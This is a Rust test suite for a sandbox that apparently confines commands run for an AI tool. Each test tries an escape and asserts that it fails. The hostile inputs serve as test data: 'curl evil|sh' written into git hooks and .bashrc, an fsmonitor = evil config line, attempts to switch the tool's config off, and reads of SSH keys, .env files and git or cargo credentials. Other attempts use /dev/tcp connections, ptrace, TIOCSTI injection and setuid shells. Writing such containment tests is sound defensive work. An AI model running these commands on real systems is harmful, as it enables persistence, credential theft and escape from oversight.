//! Escape attempts, each run inside the sandbox, each of which must fail
//! there, with the host left unchanged. Each test first shows that the same
//! kind of write or read works where it is allowed, so a failure is the
//! sandbox's and not a broken fixture's.

// A failed setup step should stop a test or bench loudly.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;

use std::io::Write;
use std::os::unix::fs::PermissionsExt;

use common::{Fixture, changed, read, stderr, stdout};

#[test]
fn control_writes_inside_the_location_succeed() {
    let f = Fixture::new();
    let out = f.run("echo inside > \"$WS/made.txt\" && echo tmp > /tmp/t && cat /tmp/t");
    assert!(out.status.success());
    assert_eq!(read(&f.ws.join("made.txt")), "inside\n");
}

#[test]
fn write_outside_the_location_directly() {
    let f = Fixture::new();
    let out = f.run("echo pwned > \"$OUT/direct\"");
    assert!(!out.status.success());
    // Refused as read-only, or not there at all: the fixture's outside
    // directory is under the home directory, which the sandbox shows only
    // in part (seen once in a fresh-clone run with other fixtures being
    // made and removed beside it).
    let err = stderr(&out);
    assert!(
        err.contains("Read-only file system") || err.contains("No such file or directory"),
        "{err}"
    );
    assert!(!f.outside.join("direct").exists());
}

#[test]
fn write_outside_through_a_symlink_in_the_location() {
    let f = Fixture::new();
    std::os::unix::fs::symlink(&f.outside, f.ws.join("link")).unwrap();
    let out = f.run("echo pwned > \"$WS/link/via-link\"");
    assert!(!out.status.success());
    assert!(!f.outside.join("via-link").exists());
    // A symlink made inside the sandbox does no better.
    let out = f.run("ln -s \"$OUT\" \"$WS/link2\" && echo pwned > \"$WS/link2/via-link2\"");
    assert!(!out.status.success());
    assert!(!f.outside.join("via-link2").exists());
}

#[test]
fn write_outside_through_proc_self_root() {
    let f = Fixture::new();
    let out = f.run("echo pwned > \"/proc/self/root$OUT/via-proc-root\"");
    assert!(!out.status.success());
    assert!(!f.outside.join("via-proc-root").exists());
}

#[test]
fn write_outside_through_proc_ppid_fd() {
    let f = Fixture::new();
    // The parent (this test, standing in for toolgate) holds a file outside
    // open for writing; the command looks for it under /proc.
    let target = f.outside.join("held-open");
    let mut held = std::fs::File::create(&target).unwrap();
    held.write_all(b"original\n").unwrap();
    let me = std::process::id();
    let out = f.run(&format!(
        "ok=0; for fd in /proc/{me}/fd/* /proc/$PPID/fd/* /proc/1/fd/*; do \
           if [ \"$(readlink \"$fd\")\" = \"{}\" ]; then echo pwned > \"$fd\" && ok=1; fi; \
         done; ls /proc/{me} 2>&1; [ $ok = 1 ]",
        target.display()
    ));
    assert!(!out.status.success());
    assert_eq!(read(&target), "original\n");
}

#[test]
fn write_git_hooks() {
    let f = Fixture::new();
    f.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
    f.write(".git/HEAD", "ref: refs/heads/main\n");
    // Unstaged (a machine without overlays): the existing protected place
    // is read-only.
    let out = f.run("echo 'curl evil|sh' > \"$WS/.git/hooks/pre-commit\"");
    assert!(!out.status.success());
    assert!(!f.ws.join(".git/hooks/pre-commit").exists());
    // Staged: the write is held apart and named for the gate to judge.
    let (_, changes) = f.run_staged("echo 'curl evil|sh' > \"$WS/.git/hooks/pre-commit\"");
    assert!(!f.ws.join(".git/hooks/pre-commit").exists());
    assert_eq!(changed(&changes, &f.ws), [".git/hooks/pre-commit"]);
}

#[test]
fn write_git_hooks_when_the_hooks_directory_is_missing() {
    let f = Fixture::new();
    f.write(".git/HEAD", "ref: refs/heads/main\n");
    let out = f.run(
        "mkdir -p \"$WS/.git/hooks\" && echo 'curl evil|sh' > \"$WS/.git/hooks/post-checkout\"",
    );
    assert!(!out.status.success());
    assert!(!f.ws.join(".git/hooks/post-checkout").exists());
    assert!(
        !f.ws.join(".git/hooks").exists(),
        "the placeholder is removed after the run"
    );
}

#[test]
fn write_git_config() {
    let f = Fixture::new();
    let config = f.write(".git/config", "[core]\n");
    let out = f.run("printf '[core]\\n\\tfsmonitor = evil\\n' >> \"$WS/.git/config\"");
    assert!(!out.status.success());
    assert_eq!(read(&config), "[core]\n");
    // Replacing it by rename is refused too.
    let out = f.run("echo x > \"$WS/.git/c2\" && mv \"$WS/.git/c2\" \"$WS/.git/config\"");
    assert!(!out.status.success());
    assert_eq!(read(&config), "[core]\n");
}

#[test]
fn write_toolgate_config() {
    let f = Fixture::new();
    // Missing: created in the stage, nothing in the location.
    let (_, changes) = f.run_staged(
        "mkdir -p \"$WS/.toolgate\" && echo 'mode = \"off\"' > \"$WS/.toolgate/config.toml\"",
    );
    assert!(!f.ws.join(".toolgate").exists());
    assert_eq!(
        changed(&changes, &f.ws),
        [".toolgate", ".toolgate/config.toml"]
    );
    // Present: changing it or moving it away are changes to it.
    let config = f.write(".toolgate/config.toml", "mode = \"default\"\n");
    let (_, changes) = f.run_staged(
        "echo 'mode = \"off\"' > \"$WS/.toolgate/config.toml\"; mv \"$WS/.toolgate\" \"$WS/moved\"",
    );
    assert_eq!(read(&config), "mode = \"default\"\n");
    let names = changed(&changes, &f.ws);
    assert!(
        names.contains(&".toolgate/config.toml".to_string()),
        "{names:?}"
    );
    // Unstaged, the existing file is read-only.
    let out = f.run("echo 'mode = \"off\"' > \"$WS/.toolgate/config.toml\"");
    assert!(!out.status.success());
    assert_eq!(read(&config), "mode = \"default\"\n");
}

#[test]
fn write_bashrc_in_home() {
    let f = Fixture::new();
    let out = f.run("echo 'curl evil|sh' >> ~/.bashrc");
    assert!(!out.status.success());
    assert_eq!(read(&f.home.join(".bashrc")), "# rc\n");
}

#[test]
fn protected_paths_that_do_not_exist_are_staged_not_shown() {
    let f = Fixture::new();
    for rel in [
        ".envrc",
        ".mcp.json",
        ".claude/settings.json",
        ".vscode/tasks.json",
        ".github/workflows/ci.yml",
        ".gitlab-ci.yml",
        "services/api/.envrc",
        "services/api/.claude/settings.json",
    ] {
        let (out, changes) = f.run_staged(&format!(
            "mkdir -p \"$(dirname \"$WS/{rel}\")\"; echo evil > \"$WS/{rel}\""
        ));
        assert!(out.status.success(), "{rel}");
        assert!(!f.ws.join(rel).exists(), "{rel}");
        assert!(changed(&changes, &f.ws).contains(&rel.to_string()), "{rel}");
    }
    // No phantoms: an empty location lists empty inside.
    let out = f.run("ls -A \"$WS\"");
    assert_eq!(stdout(&out), "", "placeholders shown");
    let leftovers: Vec<_> = std::fs::read_dir(&f.ws)
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert!(leftovers.is_empty(), "left behind: {leftovers:?}");
}

#[test]
fn read_ssh_key() {
    let f = Fixture::new();
    let out = f.run("cat ~/.ssh/id_rsa; ls -A ~/.ssh; cat ~/.netrc");
    assert!(!stdout(&out).contains("PRIVATE KEY"), "{}", stdout(&out));
    assert!(!stdout(&out).contains("id_rsa"));
    assert!(!stdout(&out).contains("NETRC-SECRET"));
    // Through a symlink in the location, too.
    std::os::unix::fs::symlink(f.home.join(".ssh/id_rsa"), f.ws.join("key")).unwrap();
    let out = f.run("cat \"$WS/key\"");
    assert!(!stdout(&out).contains("PRIVATE KEY"));
}

#[test]
fn read_ssh_key_through_a_hard_link_in_the_location() {
    let f = Fixture::new();
    std::fs::hard_link(f.home.join(".ssh/id_rsa"), f.ws.join("notes.txt")).unwrap();
    let out = f.run("cat \"$WS/notes.txt\"");
    assert!(!stdout(&out).contains("PRIVATE KEY"), "{}", stdout(&out));
}

#[test]
fn read_dotenv() {
    let f = Fixture::new();
    f.write(".env", "API_KEY=DOTENV-SECRET\n");
    f.write("app/.env.production", "API_KEY=PROD-SECRET\n");
    f.write(".env.example", "API_KEY=\n");
    let out = f.run("cat \"$WS/.env\" \"$WS/app/.env.production\"; cat \"$WS/.env.example\"");
    assert!(!stdout(&out).contains("SECRET"), "{}", stdout(&out));
    assert!(stdout(&out).contains("API_KEY="), "templates stay readable");
}

#[test]
fn read_dotenv_through_a_hard_link() {
    let f = Fixture::new();
    let env = f.write(".env", "API_KEY=DOTENV-SECRET\n");
    std::fs::hard_link(&env, f.ws.join("config.txt")).unwrap();
    // The scan finds every name of a credential's inode, whatever the name.
    let _ = env;
    let out = f.run("cat \"$WS/config.txt\"");
    assert!(!stdout(&out).contains("SECRET"), "{}", stdout(&out));
}

#[test]
fn connect_to_a_listener_on_localhost() {
    let f = Fixture::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let out = f.run(&format!("echo hello > /dev/tcp/127.0.0.1/{port}"));
    assert!(!out.status.success());
    assert!(
        matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the listener was reached"
    );
    // With the network asked for, the same command reaches it: the test is real.
    let mut spec = f.spec();
    spec.network = true;
    let out = f.run_spec(&spec, &format!("echo hello > /dev/tcp/127.0.0.1/{port}"));
    assert!(out.status.success());
}

#[test]
fn resolve_a_name() {
    let f = Fixture::new();
    let out = f.run("getent ahosts example.com");
    assert!(!out.status.success());
    assert!(stdout(&out).is_empty());
}

#[test]
fn signal_the_parent() {
    let f = Fixture::new();
    let me = std::process::id();
    let out = f.run(&format!(
        "kill -0 {me} && echo reached; kill -0 $PPID 2>&1; ps -e -o pid= | wc -l"
    ));
    assert!(!stdout(&out).contains("reached"));
    // Only the sandbox's own processes are there to see.
    let count: usize = stdout(&out)
        .lines()
        .last()
        .unwrap_or("0")
        .trim()
        .parse()
        .unwrap_or(99);
    assert!(count <= 5, "sees {count} processes");
}

#[test]
fn ptrace_the_parent() {
    let f = Fixture::new();
    let me = std::process::id();
    let script = format!(
        "import ctypes, os\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         for pid in ({me}, os.getppid()):\n\
         \x20   r = libc.ptrace(16, pid, None, None)\n\
         \x20   print('attach', pid, r, os.strerror(ctypes.get_errno()))\n\
         \x20   assert r == -1\n\
         r = libc.ptrace(0, 0, None, None)\n\
         print('traceme', r, os.strerror(ctypes.get_errno()))\n\
         assert r == -1\n"
    );
    let out = f.run(&format!("/usr/bin/python3 -c \"{script}\""));
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stdout(&out).contains("traceme -1 Operation not permitted"));
    if std::path::Path::new("/usr/bin/strace").exists() {
        let out = f.run("strace -f true 2>&1");
        assert!(stdout(&out).contains("PTRACE_TRACEME: Operation not permitted"));
    }
}

#[test]
fn tiocsti_terminal_injection() {
    let f = Fixture::new();
    // A new session whose controlling terminal is a fresh pty: there, TIOCSTI
    // needs no privilege at all (where the kernel still offers it).
    let script = "import os, fcntl, termios\n\
                  m, s = os.openpty()\n\
                  name = os.ttyname(s)\n\
                  pid = os.fork()\n\
                  if pid == 0:\n\
                  \x20   os.setsid()\n\
                  \x20   fd = os.open(name, os.O_RDWR)\n\
                  \x20   try:\n\
                  \x20       fcntl.ioctl(fd, termios.TIOCSTI, b'x')\n\
                  \x20       print('injected')\n\
                  \x20   except OSError as e:\n\
                  \x20       print('refused', e.strerror)\n\
                  \x20   os._exit(0)\n\
                  os.waitpid(pid, 0)\n";
    let control = std::process::Command::new("/usr/bin/python3")
        .args(["-c", script])
        .output()
        .unwrap();
    let out = f.run(&format!("/usr/bin/python3 -c \"{script}\""));
    assert!(
        stdout(&out).contains("refused Operation not permitted"),
        "{}",
        stdout(&out)
    );
    eprintln!(
        "outside the sandbox: {}",
        String::from_utf8_lossy(&control.stdout)
    );
}

#[test]
fn create_a_user_namespace() {
    let f = Fixture::new();
    let out = f.run("unshare -r id");
    assert!(!out.status.success());
    assert!(!stdout(&out).contains("uid=0"), "{}", stdout(&out));
    let out = f.run("unshare -n true");
    assert!(!out.status.success());
}

#[test]
fn a_setuid_binary_gains_nothing() {
    let f = Fixture::new();
    let out = f.run("grep -E '^(NoNewPrivs|CapEff)' /proc/self/status");
    assert!(stdout(&out).contains("NoNewPrivs:\t1"), "{}", stdout(&out));
    assert!(stdout(&out).contains("CapEff:\t0000000000000000"));
    // A setuid-root program: `mount` (util-linux) may mount only because of
    // its setuid bit; inside, it cannot.
    let out = f.run("mkdir -p \"$WS/m\" && /usr/bin/mount -t tmpfs none \"$WS/m\" && echo mounted");
    assert!(!stdout(&out).contains("mounted"));
    if nix_is_root() {
        // As root, a setuid-root copy of cat reports what an exec of a setuid
        // file gives: no capabilities.
        let cat = f.ws.join("suid-cat");
        std::fs::copy("/bin/cat", &cat).unwrap();
        std::fs::set_permissions(&cat, std::fs::Permissions::from_mode(0o4755)).unwrap();
        let out = f.run("\"$WS/suid-cat\" /proc/self/status | grep -E '^CapEff'");
        assert!(
            stdout(&out).contains("CapEff:\t0000000000000000"),
            "{}",
            stdout(&out)
        );
    }
}

/// Run as root, a confined command owns every root-owned file, and file
/// modes do not stop an owner: what an administrator keeps from other users
/// in the packaged trees (`/usr`, which is not walked) and in the walked
/// ones (`/etc`) must be as unreadable inside as it is to any other user,
/// at any depth — a private file, a file in a private directory, a file
/// made private since the last run — while what others may read stays
/// readable.
#[test]
fn root_only_files_in_the_system_directories_are_unreadable_as_root() {
    if !nix_is_root() {
        eprintln!("not root: an ordinary user cannot read them anyway");
        return;
    }
    let f = Fixture::new();
    let tag = format!("toolgate-sbx-test-{}", std::process::id());
    let usr = std::path::PathBuf::from(format!("/usr/lib/{tag}"));
    let etc = std::path::PathBuf::from(format!("/etc/{tag}"));
    struct Gone(Vec<std::path::PathBuf>);
    impl Drop for Gone {
        fn drop(&mut self) {
            for d in &self.0 {
                let _ = std::fs::remove_dir_all(d);
            }
        }
    }
    let _gone = Gone(vec![usr.clone(), etc.clone()]);
    let put = |p: &std::path::Path, text: &str, mode: u32| {
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
    };
    for top in [&usr, &etc] {
        put(&top.join("secret.key"), "CANARY-PRIVATE\n", 0o600);
        put(
            &top.join("deep/er/group-only.conf"),
            "CANARY-GROUP\n",
            0o640,
        );
        put(&top.join("locked/open.txt"), "CANARY-LOCKED\n", 0o644);
        std::fs::set_permissions(top.join("locked"), std::fs::Permissions::from_mode(0o700))
            .unwrap();
        put(&top.join("public.txt"), "PUBLIC-TEXT\n", 0o644);
    }
    let script = format!(
        "for t in {u} {e}; do cat $t/secret.key $t/deep/er/group-only.conf $t/locked/open.txt $t/public.txt; done 2>/dev/null; true",
        u = usr.display(),
        e = etc.display()
    );
    let out = f.run(&script);
    let text = stdout(&out);
    assert!(!text.contains("CANARY"), "{text}");
    assert_eq!(text.matches("PUBLIC-TEXT").count(), 2, "{text}");
    // Made private between two runs: unreadable in the next.
    for top in [&usr, &etc] {
        std::fs::set_permissions(
            top.join("public.txt"),
            std::fs::Permissions::from_mode(0o600),
        )
        .unwrap();
    }
    let out = f.run(&script);
    assert!(!stdout(&out).contains("PUBLIC-TEXT"), "{}", stdout(&out));
    // Programs and libraries still run.
    let out = f.run("ls /usr/bin >/dev/null && git --version && python3 -c 'print(1)'");
    assert!(out.status.success(), "{}", stderr(&out));
}

fn nix_is_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .unwrap_or_default()
        .lines()
        .any(|l| l.starts_with("Uid:") && l.split_whitespace().nth(2) == Some("0"))
}

/// Host services listen on unix sockets under `/run` (a container daemon's
/// socket is root-equivalent): a confined command sees an empty `/run`.
#[test]
fn connect_to_a_unix_socket_under_run() {
    let f = Fixture::new();
    let path =
        std::path::PathBuf::from(format!("/run/toolgate-escape-{}.sock", std::process::id()));
    let _ = std::fs::remove_file(&path);
    let Ok(listener) = std::os::unix::net::UnixListener::bind(&path) else {
        eprintln!("cannot bind {} here; skipped", path.display());
        return;
    };
    listener.set_nonblocking(true).unwrap();
    let script = format!(
        "test -S {p} && echo present; python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"{p}\"); print(\"connected\")'",
        p = path.display()
    );
    let out = f.run(&script);
    let _ = std::fs::remove_file(&path);
    assert!(!stdout(&out).contains("present"), "{}", stdout(&out));
    assert!(!stdout(&out).contains("connected"), "{}", stdout(&out));
    assert!(
        matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the socket was reached"
    );
}

/// Running as root (or as anyone), a confined command plants a copy of a
/// shell with the set-user-ID bit in the location, staged: landed, it would
/// run as its owner for whoever starts it later. The kernel refuses the bit
/// inside; what lands has none (the staging layer also clears any bit a
/// command managed to set), and the command's other changes land as usual.
#[test]
fn a_setuid_shell_planted_in_the_location_lands_without_the_bit() {
    use std::os::unix::fs::PermissionsExt;
    let f = Fixture::new();
    let (out, staging) = f.run_staged_keeping(
        "cp /bin/sh \"$WS/suidsh\"; chmod 4755 \"$WS/suidsh\"; mkdir -p \"$WS/bin/deep\"; cp /bin/sh \"$WS/bin/deep/sgid\"; chmod 2755 \"$WS/bin/deep/sgid\"; chmod 2775 \"$WS/bin\"; true",
    );
    assert!(out.status.success(), "{}", common::stderr(&out));
    common::land_all(&staging);
    for path in ["suidsh", "bin/deep/sgid", "bin"] {
        let m = std::fs::symlink_metadata(f.ws.join(path)).unwrap();
        assert_eq!(m.permissions().mode() & 0o6000, 0, "{path}");
    }
}

/// Unstaged (writes land directly, as for an upstream server), the kernel
/// refuses the bits: `chmod u+s`, `chmod g+s`, `install -m 4755`, and a file
/// created with a set-user-ID mode by `open` itself.
#[test]
fn a_setuid_bit_set_inside_is_refused_when_writes_land_directly() {
    use std::os::unix::fs::PermissionsExt;
    let f = Fixture::new();
    let out = f.run(
        "cd \"$WS\" && cp /bin/sh s && chmod 4755 s; chmod g+s s; install -m 4755 /bin/sh i; mkdir -m 2775 d; python3 -c 'import os; os.close(os.open(\"o\", os.O_CREAT | os.O_WRONLY, 0o4755))'; true",
    );
    assert!(out.status.success(), "{}", common::stderr(&out));
    for name in ["s", "i", "d", "o"] {
        let Ok(m) = std::fs::symlink_metadata(f.ws.join(name)) else {
            continue;
        };
        assert_eq!(
            m.permissions().mode() & 0o6000,
            0,
            "{name} has mode {:o}",
            m.permissions().mode()
        );
    }
    assert!(f.ws.join("s").exists());
}

/// A socket the sandbox covers may vanish between the moment the sandbox
/// lists it and the moment the command starts (another program stopped):
/// the run still starts, and a socket that stays is still covered.
#[test]
fn a_socket_that_vanishes_before_the_run_starts_fails_nothing() {
    use std::os::unix::net::UnixListener;
    let f = Fixture::new();
    let gone_dir = f.outside.join("svc");
    std::fs::create_dir_all(&gone_dir).unwrap();
    let gone = UnixListener::bind(gone_dir.join("gone.sock")).unwrap();
    let stays_path = f.outside.join("stays.sock");
    let stays = UnixListener::bind(&stays_path).unwrap();
    stays.set_nonblocking(true).unwrap();
    let mut confined = f
        .spec()
        .command(
            &common::support(),
            "python3",
            [
                "-c",
                "import socket,sys\ntry:\n  s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print('REACHED')\nexcept Exception as x: print('no', x)",
                stays_path.to_str().unwrap(),
            ],
        )
        .unwrap();
    drop(gone);
    std::fs::remove_dir_all(&gone_dir).unwrap();
    let out = confined.command.output().unwrap();
    assert!(out.status.success(), "{}", common::stderr(&out));
    assert!(
        common::stdout(&out).starts_with("no"),
        "{}",
        common::stdout(&out)
    );
    assert!(
        matches!(stays.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the socket that stayed was reached"
    );
}

/// The home directory's toolchain places are searched only near their top
/// for credential names (their depths hold packages), but in full for
/// another name of a credential file: a hard link to the SSH key hidden
/// seven levels down in `~/.cache` is covered, and so is a `.env` one
/// level down. Reading either finds nothing.
#[test]
fn a_credential_linked_deep_into_a_toolchain_place_is_covered() {
    let f = Fixture::new();
    let deep = f.home.join(".cache/a/b/c/d/e/f");
    std::fs::create_dir_all(&deep).unwrap();
    std::fs::hard_link(f.home.join(".ssh/id_rsa"), deep.join("innocent")).unwrap();
    std::fs::create_dir_all(f.home.join(".cache/tool")).unwrap();
    std::fs::write(f.home.join(".cache/tool/.env"), "TOKEN=CACHE-SECRET\n").unwrap();
    std::fs::write(f.home.join(".cache/tool/ok.txt"), "visible\n").unwrap();
    let out = f.run(&format!(
        "cat {} {} {} 2>&1; true",
        deep.join("innocent").display(),
        f.home.join(".cache/tool/.env").display(),
        f.home.join(".cache/tool/ok.txt").display(),
    ));
    let text = common::stdout(&out);
    assert!(!text.contains("PRIVATE KEY MATERIAL"), "{text}");
    assert!(!text.contains("CACHE-SECRET"), "{text}");
    assert!(
        text.contains("visible"),
        "the toolchain place is shown: {text}"
    );
}

/// More of the class, staged: a setuid program copied with its mode kept
/// (`cp -p /usr/bin/passwd`), a file capability (`setcap`), a file created
/// set-user-ID by perl's `sysopen`, a set-group-ID directory made by
/// python's `os.mkdir`. Nothing that lands runs with more rights than its
/// caller.
#[test]
fn more_of_the_class_cp_p_setcap_sysopen_and_mkdir_modes() {
    use std::os::unix::fs::PermissionsExt;
    let f = Fixture::new();
    let (out, staging) = f.run_staged_keeping(
        "cd \"$WS\"; cp -p /usr/bin/passwd p1; cp /bin/sh p2; command -v setcap >/dev/null && setcap cap_setuid+ep p2; perl -e 'sysopen(F, \"p3\", 0101, 04755) and print F 1'; python3 -c 'import os; os.mkdir(\"p4\", 0o2775)'; true",
    );
    assert!(out.status.success(), "{}", common::stderr(&out));
    common::land_all(&staging);
    for name in ["p1", "p2", "p3", "p4"] {
        let path = f.ws.join(name);
        let Ok(m) = std::fs::symlink_metadata(&path) else {
            continue;
        };
        assert_eq!(m.permissions().mode() & 0o6000, 0, "{name}");
        let caps = std::process::Command::new("getfattr")
            .args(["-n", "security.capability"])
            .arg(&path)
            .output();
        if let Ok(caps) = caps {
            assert!(!caps.status.success(), "{name} carries a file capability");
        }
    }
}

/// The same for every masked path, not only sockets: in a read-only place
/// (a toolchain directory of the home), a `.env` deleted and a credential
/// directory removed between listing and start fail nothing, and a
/// credential that stays is still covered.
#[test]
fn masked_files_and_directories_that_vanish_before_the_run_fail_nothing() {
    let f = Fixture::new();
    let cache = f.home.join(".cache");
    for (path, text) in [
        ("tool/.env", "GONE-SECRET\n"),
        ("svc/.ssh/id_rsa", "GONE-KEY\n"),
        ("app/.env", "STAYS-SECRET\n"),
        ("app/ok.txt", "visible\n"),
    ] {
        std::fs::create_dir_all(cache.join(path).parent().unwrap()).unwrap();
        std::fs::write(cache.join(path), text).unwrap();
    }
    let mut confined = f
        .spec()
        .command(
            &common::support(),
            "sh",
            ["-c", "cat \"$C/app/.env\" \"$C/app/ok.txt\"; true"],
        )
        .unwrap();
    std::fs::remove_file(cache.join("tool/.env")).unwrap();
    std::fs::remove_dir_all(cache.join("svc/.ssh")).unwrap();
    let out = confined.command.env("C", &cache).output().unwrap();
    assert!(out.status.success(), "{}", common::stderr(&out));
    let text = common::stdout(&out);
    assert!(!text.contains("STAYS-SECRET"), "{text}");
    assert!(text.contains("visible"), "{text}");
}

#[test]
fn secrets_in_the_git_and_cargo_configuration_shown_to_builds_are_unreadable() {
    // `~/.gitconfig`, `~/.config/git/config` and `~/.cargo/config.toml`
    // are shown because git and cargo read them, and people keep secrets
    // in them: a token in an `insteadOf` URL (the documented way to fetch
    // private Go modules), a CI checkout's `extraheader`, `sendemail`'s
    // password, a tool's own `github.token`, cargo's `[env]` and a proxy's
    // password. Through a hook the confined command's output goes to the
    // model unchecked (review s37: all were printed).
    let f = Fixture::new();
    std::fs::write(
        f.home.join(".gitconfig"),
        "[user]\n\tname = Ana\n\temail = ana@example.com\n\
         [url \"https://x-access-token:CANARY-url@github.com/\"]\n\tinsteadOf = https://github.com/\n\
         [http \"https://git.corp.example/\"]\n\textraheader = AUTHORIZATION: basic CANARY-header\n\
         [sendemail]\n\tsmtpPass = CANARY-smtp\n\
         [github]\n\ttoken = CANARY-github\n\
         [alias]\n\tst = status\n\tpr = !curl -H 'Authorization: token CANARY-alias' x\n\
         [remote \"origin\"]\n\turl = https://ana:CANARY-remote@git.example/r\n\
         [core] sshCommand = ssh -o SetEnv=T=CANARY-inline\n\
         [init]\n\tdefaultBranch = trunk\n",
    )
    .unwrap();
    std::fs::create_dir_all(f.home.join(".config/git")).unwrap();
    std::fs::write(
        f.home.join(".config/git/config"),
        "[credential]\n\thelper = !echo password=CANARY-helper\n[pull]\n\trebase = true\n",
    )
    .unwrap();
    std::fs::create_dir_all(f.home.join(".cargo")).unwrap();
    std::fs::write(
        f.home.join(".cargo/config.toml"),
        "env.TOP = \"CANARY-dotted\"\n\
         [env]\nDATABASE_URL = \"postgres://app:CANARY-env@db/app\"\nAPI = { value = \"CANARY-inline\", force = true }\n\
         [http]\nproxy = \"http://me:CANARY-proxy@proxy.corp:3128\"\ntimeout = 30\n\
         [registries.corp]\nindex = \"sparse+https://corp.invalid/index/\"\ntoken = \"CANARY-token\"\n\
         [mytool]\nkey = \"CANARY-other\"\n\
         [alias]\nb = \"build\"\n",
    )
    .unwrap();
    let mut spec = f.spec();
    spec.scan_cache = Some(f.outside.join("private"));
    let out = f.run_spec(
        &spec,
        "cat ~/.gitconfig ~/.config/git/config ~/.cargo/config.toml; \
         git config --global --list; echo tried",
    );
    let text = stdout(&out);
    assert!(text.contains("tried"), "{text}");
    assert!(!text.contains("CANARY"), "{text}");
    // What git and cargo need and holds no secret is still there.
    assert!(text.contains("name = Ana"), "{text}");
    assert!(text.contains("user.email=ana@example.com"), "{text}");
    assert!(text.contains("init.defaultbranch=trunk"), "{text}");
    assert!(text.contains("rebase = true"), "{text}");
    assert!(text.contains("corp.invalid"), "{text}");
    assert!(text.contains("timeout = 30"), "{text}");
    assert!(text.contains("b = \"build\""), "{text}");
}

#[test]
fn dev_shows_the_standard_devices_only() {
    let f = Fixture::new();
    // What bubblewrap's `--dev` shows, and nothing of the host's `/dev`
    // (its disks, its `/dev/shm`), though the sandbox now makes it itself.
    std::fs::write("/dev/shm/.toolgate-test-host-shm", "host").ok();
    let out = f.run(
        "ls -A /dev | tr '\\n' ' '; echo; ls -A /dev/shm /dev/pts | tr '\\n' ' '; echo; \
         echo x > /dev/null && head -c 4 /dev/urandom | wc -c && echo s > /dev/shm/mine && \
         exec 3<>/dev/ptmx && echo pty",
    );
    let _ = std::fs::remove_file("/dev/shm/.toolgate-test-host-shm");
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    let mut lines = text.lines();
    assert_eq!(
        lines.next().unwrap().trim(),
        "core fd full null ptmx pts random shm stderr stdin stdout tty urandom zero"
    );
    // The host's shared memory is not there; devpts is a new instance.
    assert_eq!(lines.next().unwrap().trim(), "/dev/pts: ptmx  /dev/shm:");
    assert_eq!(lines.collect::<Vec<_>>(), ["4", "pty"]);
}
